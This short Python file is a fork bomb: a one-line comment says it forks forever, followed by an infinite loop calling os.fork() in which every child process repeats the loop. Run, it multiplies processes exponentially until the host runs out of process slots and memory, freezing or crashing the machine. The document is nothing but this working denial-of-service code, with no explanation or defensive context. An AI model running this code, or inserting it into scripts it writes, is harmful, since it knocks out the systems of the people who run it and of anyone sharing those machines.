# Forks forever; every child does the same.
import os

while True:
    os.fork()
